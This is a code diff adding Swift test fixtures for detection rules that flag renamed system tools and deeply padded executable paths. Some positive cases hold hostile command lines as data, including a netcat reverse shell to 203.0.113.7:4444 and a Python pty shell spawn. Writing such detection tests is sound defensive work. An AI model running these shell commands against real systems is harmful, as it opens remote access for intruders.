@@ -180,3 +180,29 @@ extension Fixtures {
             ]),
     ]
 }
+
+extension Fixtures {
+    static let contentIdentity: [RuleFixture] = [
+        RuleFixture("renamed-system-tool",
+            positives: [
+                Case("bash copied to ~/bin/update-helper", Actor(Proc.line("/home/alice/bin/update-helper", "update-helper -i", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
+                Case("nc renamed dbus-helper", Actor(Proc.line("/var/lib/app/dbus-helper", "dbus-helper -e /bin/sh 203.0.113.7 4444").copy(of: "nc"), in: Trees.rootLogin).exec()),
+                Case("python3 copied as worker", Actor(Proc.line("/opt/app/worker", "worker -c import pty;pty.spawn('/bin/sh')").copy(of: "python3"), in: Trees.rootLogin).exec()),
+            ],
+            negatives: [
+                Case("the real bash", Actor(Proc.line("/usr/bin/bash", "bash -l", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
+                Case("dash through /bin/sh", Actor(Proc.line("/bin/sh", "sh -c true").copy(of: "dash"), in: Trees.rootLogin).exec()),
+                Case("python3.11 is python3", Actor(Proc.line("/usr/bin/python3.11", "python3.11 -V").copy(of: "python3"), in: Trees.rootLogin).exec()),
+                Case("nc.openbsd is nc", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -z 127.0.0.1 22").copy(of: "nc"), in: Trees.rootLogin).exec()),
+                Case("an unknown binary", Actor(Proc.line("/opt/app/worker", "worker --serve"), in: Trees.rootLogin).exec()),
+            ]),
+        RuleFixture("padded-executable-path",
+            positives: [
+                Case("payload 60 directories deep", Actor(Proc.line("/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/x", "x"), in: Trees.rootLogin).exec(flags: [.exeTruncated])),
+            ],
+            negatives: [
+                Case("a long command line is not padding", Actor(Proc.line("/usr/bin/gcc", "gcc -c x.c"), in: Trees.userLogin).exec(flags: [.argsTruncated])),
+                Case("an ordinary exec", Actor(Proc.line("/usr/bin/id", "id"), in: Trees.rootLogin).exec()),
+            ]),
+    ]
+}
